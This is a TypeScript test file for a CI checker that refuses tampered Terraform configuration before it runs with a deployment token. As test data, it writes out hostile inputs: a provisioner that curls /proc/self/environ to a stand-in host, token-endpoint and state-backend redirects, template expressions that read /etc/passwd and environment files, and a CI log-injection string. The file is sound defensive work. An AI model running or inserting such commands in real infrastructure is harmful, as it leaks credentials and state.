import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { checkConfiguration, runCli, trustedStacks } from "../../scripts/ci/check-config";
import { scanTemplate } from "../../scripts/ci/terraform-template";

const BACKEND = {
  azurerm: { container_name: "tfstate-prod", key: "prod.tfstate", resource_group_name: "chat-tfstate-rg", storage_account_name: "chattfstate0prod", use_azuread_auth: true },
};
const TRUSTED = {
  defaults: { prefix: "chat" },
  environments: {
    dev: { remoteState: { resourceGroupName: "chat-tfstate-rg", storageAccountName: "chattfstate0prod", containerName: "tfstate-dev" } },
    prod: { remoteState: { resourceGroupName: "chat-tfstate-rg", storageAccountName: "chattfstate0prod", containerName: "tfstate-prod" } },
    local: {},
  },
};

/** What the product writes, in miniature: the shape each attack below starts from. */
function productConfig(): Record<string, any> {
  return {
    "//": { metadata: { stackName: "prod", version: "0.21.0" } },
    terraform: {
      backend: structuredClone(BACKEND),
      required_providers: { azurerm: { source: "azurerm", version: "4.55.0" }, time: { source: "hashicorp/time", version: "0.13.1" } },
    },
    provider: { azurerm: [{ features: [{ storage: [{ data_plane_available: false }] }], storage_use_azuread: true }], time: [{}] },
    data: { azurerm_client_config: { ClientConfig: {} } },
    locals: { suffix: '${substr(sha256(join("|", [data.azurerm_client_config.ClientConfig.subscription_id, "chat", "prod"])), 0, 6)}' },
    resource: {
      azurerm_resource_group: { rg: { "//": { metadata: { path: "prod/Platform/ResourceGroup" } }, name: "chat-prod-rg-${local.suffix}", lifecycle: { prevent_destroy: true } } },
      azurerm_role_assignment: { ra: { name: '${uuidv5("7db57c0e-e022-55bd-8c3c-75a994d50eee", "x")}', depends_on: ["azurerm_resource_group.rg"] } },
    },
    output: { resource_group_name: { value: "${azurerm_resource_group.rg.name}", description: "the group" } },
  };
}

const check = (mutate: (c: Record<string, any>) => void) => {
  const config = productConfig();
  mutate(config);
  return checkConfiguration(JSON.stringify(config), BACKEND);
};
const paths = (problems: { path: string }[]) => problems.map((p) => p.path);

describe("check-config: only what the product writes runs with a token", () => {
  it("accepts the product's own shape", () => {
    expect(check(() => {})).toEqual([]);
  });

  // Attack path 1: the backend or a provider block sent the OIDC assertion to another host during init.
  it("refuses a provider setting that names an endpoint or credential source (metadata_host, oidc_request_url)", () => {
    const found = check((c) => {
      c.provider.azurerm[0].metadata_host = "127.0.0.1:8443";
      c.provider.azurerm[0].oidc_request_url = "http://127.0.0.1:8080/token";
    });
    expect(paths(found)).toEqual(["provider.azurerm[0].metadata_host", "provider.azurerm[0].oidc_request_url"]);
    expect(found[0].problem).toMatch(/could send the job's token to another host/);
  });

  it("refuses a backend field the trusted configuration does not derive (oidc_request_url, another key)", () => {
    const found = check((c) => {
      c.terraform.backend.azurerm.oidc_request_url = "http://127.0.0.1:8080/token";
    });
    expect(found).toEqual([expect.objectContaining({ path: "terraform.backend.azurerm.oidc_request_url", fix: expect.stringMatching(/^absent/) })]);
  });

  // Attack path 3: a stack called `dev` initialised `prod.tfstate`.
  it("refuses a stack whose backend points at another stack's state", () => {
    const { stacks } = trustedStacks(TRUSTED);
    const dev = stacks.find((s) => s.stack === "dev")!;
    const found = checkConfiguration(JSON.stringify(productConfig()), dev.backend);
    expect(paths(found)).toEqual(["terraform.backend.azurerm.container_name", "terraform.backend.azurerm.key"]);
    expect(found[1]).toMatchObject({ value: '"prod.tfstate"', fix: '"dev.tfstate" (a pull request cannot point a stack at another stack\'s state)' });
  });

  it("refuses another backend type (http, which posts the state anywhere)", () => {
    expect(paths(check((c) => (c.terraform.backend = { http: { address: "http://127.0.0.1:8080/state" } })))).toEqual(["terraform.backend"]);
  });

  // Attack path 1: a provisioner on terraform_data (built in, no lock entry) ran at apply.
  it("refuses terraform_data, provisioners and connections", () => {
    const found = check((c) => {
      c.resource.terraform_data = { x: { provisioner: [{ "local-exec": { command: "curl http://127.0.0.1:8080 -d @/proc/self/environ" } }] } };
      c.resource.azurerm_resource_group.rg.provisioner = [{ "local-exec": { command: "id" } }];
      c.resource.azurerm_resource_group.rg.connection = [{ host: "127.0.0.1" }];
    });
    expect(paths(found).sort()).toEqual(["resource.azurerm_resource_group.rg.connection", "resource.azurerm_resource_group.rg.provisioner", "resource.terraform_data"]);
  });

  // Attack path 1: a remote module that changes between plan and apply.
  it("refuses modules, variables and every other block the product never writes", () => {
    const found = check((c) => {
      c.module = { m: { source: "git::https://example.invalid/m.git" } };
      c.variable = { v: {} };
      c.terraform.cloud = {};
    });
    expect(paths(found).sort()).toEqual(["module", "terraform.cloud", "variable"]);
  });

  // Attack path 3: terraform_remote_state with the http backend sent a sensitive value away.
  it("refuses terraform_remote_state and data sources of providers the product does not use", () => {
    const found = check((c) => {
      c.data.terraform_remote_state = { s: { backend: "http", config: { address: "http://127.0.0.1:8080" } } };
      c.data.http = { h: { url: "http://127.0.0.1:8080" } };
    });
    expect(paths(found)).toEqual(["data.terraform_remote_state", "data.http"]);
  });

  it("refuses providers and aliases the product does not use", () => {
    const found = check((c) => {
      c.terraform.required_providers.external = { source: "hashicorp/external" };
      c.provider.azurerm.push({ alias: "other", features: [{}] });
    });
    expect(paths(found)).toEqual(["terraform.required_providers.external", "provider.azurerm", "provider.azurerm[1].alias"]);
  });

  // Attack path 6 reached Terraform as ${base64encode(file("/proc/self/environ"))}.
  it.each([
    ['${base64encode(file("/proc/self/environ"))}', "calls file()"],
    ["${nonsensitive(azurerm_key_vault_secret.s.value)}", "calls nonsensitive()"],
    ['${templatefile("/etc/passwd", {})}', "calls templatefile()"],
    ["${provider::azurerm::normalise_resource_id(x)}", "calls provider::azurerm::normalise_resource_id()"],
    ['${join("}", [file("/proc/self/environ")])}', "calls file()"],
    ['chat-${"${file("/x")}"}', "calls file()"],
    ["${path.cwd}", "refers to path.*"],
    ["%{ for x in [1] }x%{ endfor }", "holds a %{ directive"],
    ["${x # comment\n}", "holds a comment inside an expression"],
    ["${unterminated", "holds an unterminated"],
  ])("refuses %j in any attribute, tag or key", (value, problem) => {
    const found = check((c) => {
      c.resource.azurerm_resource_group.rg.tags = { owner: value };
    });
    expect(found).toContainEqual(expect.objectContaining({ path: "resource.azurerm_resource_group.rg.tags.owner", problem: expect.stringContaining(problem) }));
    expect(new Set(paths(found))).toEqual(new Set(["resource.azurerm_resource_group.rg.tags.owner"]));
    expect(new Set(paths(check((c) => (c.resource.azurerm_resource_group.rg.tags = { [value]: "x" }))))).toEqual(new Set([`resource.azurerm_resource_group.rg.tags.${value}`]));
  });

  it("leaves escaped template sequences alone: they are literal text", () => {
    expect(check((c) => (c.resource.azurerm_resource_group.rg.tags = { owner: '$${file("/x")} and %%{ if }' }))).toEqual([]);
  });

  it("refuses a name written twice, which Terraform would read as a second block", () => {
    const text = JSON.stringify(productConfig()).replace('"provider":{', '"provider":{"azurerm":[{"metadata_host":"127.0.0.1"}],');
    expect(paths(checkConfiguration(text, BACKEND))).toContain("provider.azurerm");
  });

  it("refuses preconditions, whose error messages are evaluated text", () => {
    expect(paths(check((c) => (c.resource.azurerm_resource_group.rg.lifecycle.precondition = [{ condition: true, error_message: "x" }])))).toEqual([
      "resource.azurerm_resource_group.rg.lifecycle.precondition",
    ]);
  });

  it("scans hostile strings in linear time without a call stack", () => {
    const deep = `\${${'"${'.repeat(50_000)}`;
    expect(scanTemplate(deep).error).toMatch(/unterminated/);
    const started = Date.now();
    scanTemplate(`\${${"a ".repeat(200_000)}}`);
    expect(Date.now() - started).toBeLessThan(500);
  });
});

describe("trustedStacks: the base branch decides what is planned", () => {
  // That this derivation equals what the synth writes is checked through the real synth,
  // for the shipped configuration and variants, in npm run check (scripts/check-ci-attacks.mjs).
  it("derives the azurerm backend from remoteState merged over defaults.remoteState, and the local one without", () => {
    const { stacks } = trustedStacks({
      defaults: { remoteState: { resourceGroupName: "rg", storageAccountName: "acct", containerName: "c-weu" } },
      environments: { weu: {}, sub: { remoteState: { resourceGroupName: "rg2", storageAccountName: "acct2", key: "k.tfstate", subscriptionId: "s" } } },
    });
    expect(stacks.map((s) => s.backend)).toEqual([
      { azurerm: { container_name: "c-weu", key: "weu.tfstate", resource_group_name: "rg", storage_account_name: "acct", use_azuread_auth: true } },
      { azurerm: { container_name: "c-weu", key: "k.tfstate", resource_group_name: "rg2", storage_account_name: "acct2", subscription_id: "s", use_azuread_auth: true } },
    ]);
    expect(trustedStacks({ environments: { dev: {} } }).stacks).toEqual([{ stack: "dev", remote: false, backend: { local: { path: "../../../terraform.dev.tfstate" } } }]);
  });

  it("refuses two environments sharing one state container: their identities could not be isolated", () => {
    const shared = { remoteState: { resourceGroupName: "rg", storageAccountName: "acct" } };
    const { problems } = trustedStacks({ environments: { dev: shared, prod: shared } });
    expect(problems).toEqual([expect.objectContaining({ path: "environments.prod.remoteState.containerName", problem: expect.stringContaining('state container of "dev"') })]);
  });

  // Attack path 10: CI scripts accepted "-", so a stack `prod-plan` would apply in the unreviewed plan environment.
  it("refuses a stack name outside the one grammar, such as prod-plan", () => {
    const { problems } = trustedStacks({ environments: { "prod-plan": {} } });
    expect(problems).toEqual([expect.objectContaining({ path: "environments.prod-plan", problem: "is not a stack name CI accepts" })]);
  });
});

describe("the CLI", () => {
  const dir = mkdtempSync(join(tmpdir(), "check-config-"));
  writeFileSync(join(dir, "environments.json"), JSON.stringify(TRUSTED));
  const tf = (config: object) => {
    writeFileSync(join(dir, "cdk.tf.json"), JSON.stringify(config));
    return join(dir, "cdk.tf.json");
  };

  it("lists the trusted stacks in file order with their kind of state", () => {
    expect(runCli(["stacks", join(dir, "environments.json")])).toEqual({ code: 0, stdout: "dev remote\nprod remote\nlocal local\n", stderr: "" });
  });

  it("writes what it checked for Terraform to read, and refuses with one block per problem", () => {
    const out = join(dir, "checked.json");
    expect(runCli(["check", join(dir, "environments.json"), "prod", tf(productConfig()), "--out", out]).code).toBe(0);
    expect(JSON.parse(readFileSync(out, "utf8"))).toEqual(productConfig());
    const bad = productConfig();
    bad.provider.azurerm[0].metadata_host = "x\n::error::injected";
    const run = runCli(["check", join(dir, "environments.json"), "prod", tf(bad), "--out", out]);
    expect(run).toMatchObject({ code: 1, stdout: "" });
    expect(run.stderr).toContain('✗ "prod/cdk.tf.json": "provider.azurerm[0].metadata_host" = "\\"x\\\\n:\\u003aerror:\\u003ainjected\\""');
    expect(run.stderr).not.toMatch(/^::/m);
  });

  it("refuses a stack the trusted configuration does not have, and a name outside the grammar", () => {
    expect(runCli(["check", join(dir, "environments.json"), "staging", tf(productConfig()), "--out", join(dir, "o")]).stderr).toContain(
      "is not an environment of the trusted configuration",
    );
    expect(runCli(["check", join(dir, "environments.json"), "prod-plan", tf(productConfig()), "--out", join(dir, "o")]).stderr).toContain('"(stack)" = "prod-plan"');
    expect(runCli(["bogus"]).code).toBe(2);
  });
});
